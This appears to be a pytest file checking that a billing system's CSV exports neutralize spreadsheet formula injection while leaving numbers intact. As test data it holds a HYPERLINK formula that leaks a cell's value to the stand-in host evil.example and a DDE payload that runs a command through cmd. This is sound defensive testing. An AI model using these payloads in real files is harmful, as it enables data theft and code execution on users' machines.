"""Every CSV billrun writes is safe to open in a spreadsheet: a cell a spreadsheet would run as a formula (it
begins with =, +, -, @, a tab or a carriage return) is neutralized with a leading apostrophe; plain numbers,
negative amounts included, stay numbers."""

import csv
import io

import pytest

from domain.spreadsheet_csv import cell
from tests.support import posting
from tests.support.api import Api

pytestmark = pytest.mark.usefixtures("worker")

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
HOSTILE_ITEMS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\tTab first", "\rCR first"]
MANUAL_CHARGE = """mutation($input: CreateManualChargeInput!) { createManualCharge(input: $input) {
  manualCharge { id } errors { code field message } } }"""


def test_cells_that_start_a_formula_are_neutralized_and_numbers_are_not() -> None:
    for text in ("=1+1", "+1+1", "-2+3", "@A1", "\tx", "\rx", "-", "+", "=", "-1e3", "--1"):
        assert cell(text) == "'" + text, text
    for text in ("-12.50", "+3", "12.50", "0", "-0.01", "Acme", "a=b", " =1", "", "INV-00000001"):
        assert cell(text) == text, text
    assert cell(None) == "" and cell(-5) == "-5"


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


async def test_every_csv_export_neutralizes_formulas(admin: Api, client) -> None:
    accounts = await posting.company(admin)
    account = await posting.customer(admin, accounts, "CSV-1", "100.00", name=HOSTILE_NAME)
    for description in HOSTILE_ITEMS:
        await admin.mutate("createManualCharge", MANUAL_CHARGE, {"input": {
            "accountId": account, "description": description, "chargeDate": "2026-05-01", "amount": "10.00",
            "revenueAccountId": accounts["revenue"]}})
    batch = await posting.processed(admin)
    await posting.approve_all(admin, batch)
    await posting.post(admin, batch, "EXPORT")
    auth = {"Authorization": f"Bearer {admin.token}"}
    found = (await admin.ok(posting.BATCH, {"id": batch}))["billingBatch"]
    files = {e["format"]: (await client.get(e["downloadUrl"], headers=auth)).text for e in found["exports"]}
    files["BILLING_DETAILS"] = (await client.get("/exports/billing-details.csv", params={"batchId": batch},
                                                 headers=auth)).text
    for name, text in files.items():
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], name
    details, invoices, journal = _cells(files["BILLING_DETAILS"]), _cells(files["INVOICES_CSV"]), files["JOURNAL_CSV"]
    assert "'" + HOSTILE_NAME in details and "'" + HOSTILE_NAME in invoices
    for description in HOSTILE_ITEMS:
        assert "'" + description in details and "'" + description in invoices, description
    amounts = [row["Amount"] for row in csv.DictReader(io.StringIO(journal))]
    assert any(a.startswith("-") for a in amounts) and all(not a.startswith("'") for a in amounts)
